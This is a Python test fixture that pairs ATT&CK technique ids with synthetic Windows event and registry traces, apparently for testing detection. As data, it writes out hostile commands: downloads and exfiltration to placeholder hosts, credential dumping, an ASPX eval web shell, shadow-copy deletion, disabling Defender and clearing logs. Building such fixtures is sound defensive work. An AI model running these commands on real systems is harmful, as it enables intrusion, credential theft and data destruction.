"""Windows techniques that leave traces in event records, registry and files, and one use of each; ids of ATT&CK v19.1.

The uses are this project's own. Names of fields are those of the events' own descriptions (Security, System, Sysmon, PowerShell).
"""

from __future__ import annotations

from dataclasses import dataclass, field

from tests.toolkit.techniques.plants import Technique

SECURITY, SYSTEM, SYSMON = "Security", "System", "Microsoft-Windows-Sysmon/Operational"
POWERSHELL, DEFENDER = "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-Windows Defender/Operational"
WMI, TASKS, BITS = (
    "Microsoft-Windows-WMI-Activity/Operational",
    "Microsoft-Windows-TaskScheduler/Operational",
    "Microsoft-Windows-Bits-Client/Operational",
)
_SYS = "C:\\Windows\\System32\\"
_PS = _SYS + "WindowsPowerShell\\v1.0\\powershell.exe"
_CMD = _SYS + "cmd.exe"


@dataclass(frozen=True)
class Recorded:
    """An event of a log, ``after`` seconds later."""

    channel: str
    id: int
    data: dict[str, str] = field(default_factory=dict)
    after: float = 0


@dataclass(frozen=True)
class Autorun:
    """A value of the machine's Run key."""

    name: str
    command: str


@dataclass(frozen=True)
class Service:
    """A service in the SYSTEM hive."""

    name: str
    command: str


@dataclass(frozen=True)
class Ran:
    """A program that prefetch tells of."""

    path: str


@dataclass(frozen=True)
class Listed:
    """A program that Amcache lists."""

    path: str


@dataclass(frozen=True)
class Stored:
    """A file, created at the plant's time."""

    path: str
    content: str


WindowsTrace = Recorded | Autorun | Service | Ran | Listed | Stored


def _program(command: str) -> str:
    first = command.split('"')[1] if command.startswith('"') else command.split(" ", 1)[0]
    if "\\" in first:
        return first
    name = first if first.endswith(".exe") else first + ".exe"
    return _PS if name.startswith("powershell") else _SYS + ("wbem\\" if name == "wmic.exe" else "") + name


def run(command: str, *, parent: str = _CMD, image: str = "", **more: str) -> Recorded:
    """A started program, as Sysmon tells it."""
    data = {
        "UtcTime": "",
        "Image": image or _program(command),
        "CommandLine": command,
        "ParentImage": parent,
        "User": "EC2AMAZ-LAB01\\{n}",
    }
    return Recorded(SYSMON, 1, {**data, **more})


def logged(command: str, *, parent: str = _CMD) -> Recorded:
    """A started program, as the Security log tells it."""
    return Recorded(
        SECURITY,
        4688,
        {
            "SubjectUserName": "{n}",
            "NewProcessName": _program(command),
            "CommandLine": command,
            "ParentProcessName": parent,
        },
    )


def script(text: str) -> Recorded:
    """A block of PowerShell."""
    return Recorded(
        POWERSHELL, 4104, {"MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": text, "ScriptBlockId": "{hex}"}
    )


def _set(key: str, value: str, image: str = "C:\\Windows\\regedit.exe") -> Recorded:
    return Recorded(SYSMON, 13, {"EventType": "SetValue", "Image": image, "TargetObject": key, "Details": value})


def _failed(count: int) -> tuple[Recorded, ...]:
    data = {
        "TargetUserName": "Administrator",
        "IpAddress": "{ip}",
        "LogonType": "3",
        "Status": "0xc000006d",
        "SubStatus": "0xc000006a",
    }
    return tuple(Recorded(SECURITY, 4625, data, after=number * 2) for number in range(count))


def _t(technique: str, *traces: WindowsTrace) -> Technique:
    return Technique(technique, traces)  # type: ignore[arg-type]


TECHNIQUES: tuple[Technique, ...] = (
    _t("T1003.001", Recorded(SYSMON, 10, {"SourceImage": "C:\\Users\\Public\\{w}.exe", "TargetImage": _SYS + "lsass.exe", "GrantedAccess": "0x1410", "CallTrace": "UNKNOWN"})),
    _t("T1003.002", run("reg save HKLM\\SAM C:\\Windows\\Temp\\{w}.dat")),
    _t("T1003.003", logged("ntdsutil \"ac i ntds\" \"ifm\" \"create full C:\\{w}\" q q")),
    _t("T1003.004", run("reg.exe save hklm\\security C:\\ProgramData\\{w}.bak /y")),
    _t("T1003.006", Recorded(SECURITY, 4662, {"SubjectUserName": "{w}", "ObjectServer": "DS", "AccessMask": "0x100", "Properties": "%%7688 {{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}}"})),
    _t("T1007", run("sc query state= all")),
    _t("T1012", run("reg query HKLM\\SOFTWARE\\{w} /s")),
    _t("T1016", logged("ipconfig /all")),
    _t("T1018", run("net view /all /domain")),
    _t("T1021.001", Recorded(SECURITY, 4624, {"TargetUserName": "{w}", "LogonType": "10", "IpAddress": "{ip}", "AuthenticationPackageName": "Negotiate"})),
    _t("T1021.002", run("net use \\\\10.0.{num}.4\\ADMIN$ /user:{n} {m}")),
    _t("T1021.006", run("powershell -c hostname", parent=_SYS + "wsmprovhost.exe")),
    _t("T1027", logged("powershell -NoP -sta -enc {b64}")),
    _t("T1033", run("whoami /all")),
    _t("T1036.003", run("C:\\Users\\Public\\{w}.exe /c ver", OriginalFileName="Cmd.Exe")),
    _t("T1036.005", run("C:\\Users\\Public\\svchost.exe -k {w}")),
    _t("T1047", logged("wmic /node:10.0.{num}.7 /user:{n} process call create \"cmd /c {w}.bat\"")),
    _t("T1048.003", script("Invoke-WebRequest -Uri http://{ip}/{w} -Method POST -InFile C:\\Users\\Public\\{n}.zip")),
    _t("T1049", run("netstat -ano")),
    _t("T1053.005", Recorded(SECURITY, 4698, {"SubjectUserName": "{n}", "TaskName": "\\{w}", "TaskContent": "<Exec><Command>C:\\Users\\Public\\{w}.exe</Command></Exec>"}),
       logged("schtasks /create /tn {w} /tr C:\\Users\\Public\\{w}.exe /sc minute /mo {num} /ru SYSTEM /f")),
    _t("T1055", Recorded(SYSMON, 8, {"SourceImage": "C:\\Users\\Public\\{w}.exe", "TargetImage": _SYS + "notepad.exe", "StartFunction": "LoadLibraryA", "StartModule": _SYS + "kernel32.dll"})),
    _t("T1056.001", script("$k = Add-Type -MemberDefinition '[DllImport(\"user32.dll\")] public static extern short GetAsyncKeyState(int v);' -Name {w} -PassThru")),
    _t("T1057", run("tasklist /v")),
    _t("T1059.001", logged("powershell -w hidden -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://{dom}/{w}.ps1')\"")),
    _t("T1059.003", run("cmd.exe /c \"set {w}=who&&set {n}=ami&&call %{w}%%{n}%\"", parent="C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE")),
    _t("T1059.005", run("wscript.exe C:\\Users\\{n}\\AppData\\Local\\Temp\\{w}.vbs")),
    _t("T1059.007", run("cscript.exe //nologo C:\\ProgramData\\{w}.js")),
    _t("T1069.001", logged("net localgroup administrators")),
    _t("T1069.002", run("net group \"Domain Admins\" /domain")),
    _t("T1070.003", script("Remove-Item (Get-PSReadLineOption).HistorySavePath -Force # {w}")),
    _t("T1070.004", run("sdelete64.exe -accepteula -p 3 C:\\Users\\Public\\{w}.exe")),
    _t("T1070.006", script("(Get-Item C:\\Windows\\{w}.dll).LastWriteTime = '03/04/2019 05:06:07'")),
    _t("T1071.001", Recorded(SYSMON, 3, {"Image": _SYS + "regsvr32.exe", "DestinationIp": "{ip}", "DestinationPort": "443", "DestinationHostname": "{dom}", "Initiated": "true"})),
    _t("T1074.001", run("xcopy C:\\Finance\\*.xlsx C:\\Users\\Public\\{w}\\ /s /y")),
    _t("T1078.001", run("net user guest /active:yes")),
    _t("T1082", logged("systeminfo")),
    _t("T1083", run("cmd.exe /c dir /s /b C:\\Users\\*.kdbx")),
    _t("T1087.001", run("net user")),
    _t("T1087.002", run("net user {w} /domain")),
    _t("T1090.001", logged("netsh interface portproxy add v4tov4 listenport={port} connectaddress=10.0.{num}.3 connectport=3389")),
    _t("T1098", Recorded(SECURITY, 4732, {"TargetUserName": "Administrators", "SubjectUserName": "{n}", "MemberName": "{w}", "MemberSid": "S-1-5-21-1-1{num}"})),
    _t("T1105", run("certutil -urlcache -split -f http://{ip}/{w}.exe C:\\ProgramData\\{n}.exe")),
    _t("T1110.001", *_failed(14)),
    _t("T1112", logged("reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f")),
    _t("T1113", script("$b = New-Object Drawing.Bitmap 1920,1080; [Drawing.Graphics]::FromImage($b).CopyFromScreen(0,0,0,0,$b.Size); $b.Save('C:\\{w}.png')")),
    _t("T1115", script("Get-Clipboard | Out-File C:\\Users\\Public\\{w}.txt")),
    _t("T1127.001", run("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe C:\\Users\\Public\\{w}.xml")),
    _t("T1135", run("net view \\\\10.0.{num}.8 /all")),
    _t("T1136.001", Recorded(SECURITY, 4720, {"TargetUserName": "{w}", "SubjectUserName": "{n}"}), logged("net user {w} {m} /add")),
    _t("T1140", run("certutil -decode C:\\ProgramData\\{w}.txt C:\\ProgramData\\{w}.dll")),
    _t("T1197", run("bitsadmin /transfer {w} /download /priority high http://{ip}/{n} C:\\ProgramData\\{n}.exe")),
    _t("T1201", logged("net accounts /domain")),
    _t("T1202", run("forfiles /p c:\\windows\\system32 /m notepad.exe /c C:\\Users\\Public\\{w}.exe")),
    _t("T1204.002", Ran("C:\\Users\\Public\\{w}.exe")),
    _t("T1217", run("cmd.exe /c copy \"C:\\Users\\{n}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Bookmarks\" C:\\{w}")),
    _t("T1218.003", run("cmstp.exe /s /ns C:\\Users\\{n}\\AppData\\Local\\Temp\\{w}.inf")),
    _t("T1218.004", run("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /logfile= /LogToConsole=false /U C:\\ProgramData\\{w}.dll")),
    _t("T1218.005", logged("mshta http://{dom}/{w}.hta")),
    _t("T1218.007", run("msiexec /q /i http://{ip}/{w}.msi")),
    _t("T1218.010", run("regsvr32 /s /n /u /i:http://{dom}/{w}.sct scrobj.dll")),
    _t("T1218.011", run("rundll32 C:\\Users\\Public\\{w}.dll,#1")),
    _t("T1219", Recorded(SYSTEM, 7045, {"ServiceName": "AnyDesk Service", "ImagePath": "C:\\ProgramData\\{w}\\AnyDesk.exe --service", "StartType": "auto start", "AccountName": "LocalSystem"})),
    _t("T1220", run("wmic os get /format:\"http://{dom}/{w}.xsl\"")),
    _t("T1222.001", run("icacls C:\\inetpub\\{w} /grant Everyone:F /t")),
    _t("T1482", logged("nltest /domain_trusts /all_trusts")),
    _t("T1485", run("cipher /w:C:\\Finance\\{w}")),
    _t("T1489", run("net stop MSSQLSERVER /y")),
    _t("T1490", logged("vssadmin delete shadows /all /quiet")),
    _t("T1496", run("C:\\ProgramData\\{w}\\xmrig.exe -o stratum+tcp://{dom}:{port} -u {hex}")),
    _t("T1505.003", run("cmd.exe /c whoami & echo {w}", parent=_SYS + "inetsrv\\w3wp.exe"), Stored("inetpub/wwwroot/{n}/{w}.aspx", '<%@ Page Language="Jscript"%><%eval(Request.Item["{m}"],"unsafe");%>')),
    _t("T1518.001", run("wmic /namespace:\\\\root\\SecurityCenter2 path AntiVirusProduct get displayName")),
    _t("T1529", logged("shutdown /r /t 0 /f")),
    _t("T1531", Recorded(SECURITY, 4726, {"TargetUserName": "{w}", "SubjectUserName": "{n}"})),
    _t("T1543.003", Service("{w}", "C:\\ProgramData\\{n}\\{w}.exe"), Recorded(SYSTEM, 7045, {"ServiceName": "{w}", "ImagePath": "C:\\ProgramData\\{n}\\{w}.exe", "StartType": "auto start", "AccountName": "LocalSystem"})),
    _t("T1546.003", Recorded(SYSMON, 20, {"Operation": "Created", "Name": "\"{w}\"", "Type": "Command Line", "Destination": "\"cmd /c C:\\Users\\Public\\{n}.exe\""})),
    _t("T1546.008", run("reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\" /v Debugger /d C:\\Windows\\System32\\cmd.exe /f")),
    _t("T1546.012", _set("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\notepad.exe\\Debugger", "C:\\ProgramData\\{w}.exe")),
    _t("T1546.015", _set("HKU\\S-1-5-21-1-500_Classes\\CLSID\\{{b5f8350b-0548-48b1-a6ee-88bd00b4a5e7}}\\InprocServer32\\(Default)", "C:\\Users\\Public\\{w}.dll")),
    _t("T1547.001", Autorun("{w}", "C:\\Users\\Public\\{n}.exe /q")),
    _t("T1547.004", _set("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Userinit", "C:\\Windows\\system32\\userinit.exe,C:\\ProgramData\\{w}.exe")),
    _t("T1547.005", logged("reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v \"Security Packages\" /t REG_MULTI_SZ /d \"kerberos\\0{w}\" /f")),
    _t("T1547.009", Recorded(SYSMON, 11, {"Image": _PS, "TargetFilename": "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\{w}.lnk"})),
    _t("T1548.002", run("cmd.exe /c start {w}", parent=_SYS + "fodhelper.exe", IntegrityLevel="High")),
    _t("T1550.002", Recorded(SECURITY, 4624, {"TargetUserName": "{w}", "LogonType": "9", "LogonProcessName": "seclogo", "AuthenticationPackageName": "Negotiate", "IpAddress": "::1"})),
    _t("T1552.001", run("findstr /si password C:\\inetpub\\*.config C:\\{w}\\*.xml")),
    _t("T1552.002", logged("reg query HKLM /f password /t REG_SZ /s")),
    _t("T1552.006", run("findstr /s /i cpassword \\\\{dom}\\sysvol\\*.xml")),
    _t("T1553.004", run("certutil -addstore -f root C:\\Users\\Public\\{w}.cer")),
    _t("T1555.003", script("Copy-Item \"$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data\" C:\\Users\\Public\\{w}.db")),
    _t("T1555.004", run("vaultcmd /listcreds:\"Windows Credentials\" /all")),
    _t("T1558.003", Recorded(SECURITY, 4769, {"TargetUserName": "{n}@{dom}", "ServiceName": "svc-{w}", "TicketEncryptionType": "0x17", "TicketOptions": "0x40810000", "Status": "0x0", "IpAddress": "::ffff:10.0.0.{num}"})),
    _t("T1558.004", Recorded(SECURITY, 4768, {"TargetUserName": "{w}", "ServiceName": "krbtgt", "TicketEncryptionType": "0x17", "PreAuthType": "0", "Status": "0x0", "IpAddress": "::ffff:10.0.0.{num}"})),
    _t("T1560.001", run("C:\\ProgramData\\{w}\\rar.exe a -hp{m} -v50m C:\\ProgramData\\{n}.rar C:\\Finance", image="C:\\ProgramData\\{w}\\rar.exe")),
    _t("T1564.001", run("attrib +h +s C:\\ProgramData\\{w}.exe")),
    _t("T1564.004", Recorded(SYSMON, 15, {"Image": _CMD, "TargetFilename": "C:\\ProgramData\\{w}.txt:{n}.exe", "Hash": "SHA256={hex}"})),
    _t("T1567.002", run("C:\\Users\\Public\\{w}.exe copy C:\\Finance {n}:{m} --config C:\\Users\\Public\\rclone.conf --transfers 8")),
    _t("T1569.002", Recorded(SYSTEM, 7045, {"ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe", "StartType": "demand start", "AccountName": "LocalSystem"})),
    _t("T1570", logged("cmd.exe /c copy C:\\ProgramData\\{w}.exe \\\\10.0.{num}.9\\C$\\Windows\\Temp\\")),
    _t("T1572", run("C:\\ProgramData\\plink.exe -ssh -P 443 -R {port}:127.0.0.1:3389 {n}@{dom} -pw {w}", image="C:\\ProgramData\\plink.exe")),
    _t("T1574.001", Recorded(SYSMON, 7, {"Image": "C:\\ProgramData\\{n}\\OneDriveUpdater.exe", "ImageLoaded": "C:\\ProgramData\\{n}\\version.dll", "Signed": "false", "SignatureStatus": "Unavailable"})),
    _t("T1685", script("Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath C:\\ProgramData\\{w}")),
    _t("T1685.001", run("auditpol /clear /y")),
    _t("T1685.005", Recorded(SECURITY, 1102, {"SubjectUserName": "{w}", "SubjectDomainName": "EC2AMAZ-LAB01"})),
    _t("T1686", logged("netsh advfirewall set allprofiles state off")),
    _t("T1688", run("bcdedit /set {{current}} safeboot network")),
    _t("T1690", script("Set-PSReadLineOption -HistorySaveStyle SaveNothing # {w}")),
)  # fmt: skip
